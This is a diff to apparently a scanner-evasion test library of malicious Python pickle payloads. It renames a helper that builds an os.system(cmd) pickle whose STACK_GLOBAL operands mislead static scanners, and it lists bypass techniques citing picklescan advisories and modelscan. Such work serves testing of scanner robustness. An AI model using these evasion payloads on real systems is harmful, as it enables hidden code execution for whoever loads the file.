@@ -290,7 +290,7 @@ def _strings_for_stack_global(t: Target) -> bytes:
         text_str(t.cmd)) + pickle.REDUCE
 
 
-def _hidden_system(t: Target) -> bytes:
+def hidden_system(t: Target) -> bytes:
     """os.system(cmd) whose STACK_GLOBAL operands a string-tracking static scan gets wrong:
     after 'os' 'system' 'junk' POP it pairs the last two strings it saw."""
     return (ustr("os") + ustr("system") + ustr("junk") + pickle.POP + pickle.STACK_GLOBAL
@@ -309,7 +309,7 @@ def _memo_misdirection(t: Target) -> bytes:
 
 def _octal_int(t: Target) -> bytes:
     """INT '010' is 8 to the C unpickler and an error to the pure-Python one."""
-    return pickle.INT + b"010\n" + pickle.POP + _hidden_system(t)
+    return pickle.INT + b"010\n" + pickle.POP + hidden_system(t)
 
 
 def _computed_stack_global(t: Target) -> bytes:
@@ -396,7 +396,7 @@ TECHNIQUES: list[Technique] = [
     T("py2-alias-cpickle-loads", "encoding", _py2_alias, "picklescan malicious13a"),
     T("string-operands-stack-global", "encoding", _strings_for_stack_global,
       "picklescan GHSA-9gvj", proto=0),
-    T("hidden-stack-global-operands", "encoding", _hidden_system, "ckptkit"),
+    T("hidden-stack-global-operands", "encoding", hidden_system, "ckptkit"),
     T("memo-misdirection", "encoding", _memo_misdirection, "picklescan #22, modelscan"),
     T("int-octal-literal", "encoding", _octal_int, "C vs Python unpickler"),
     T("memo-keyerror-after-payload", "encoding", _memo_keyerror, "picklescan keyerror-exploit",
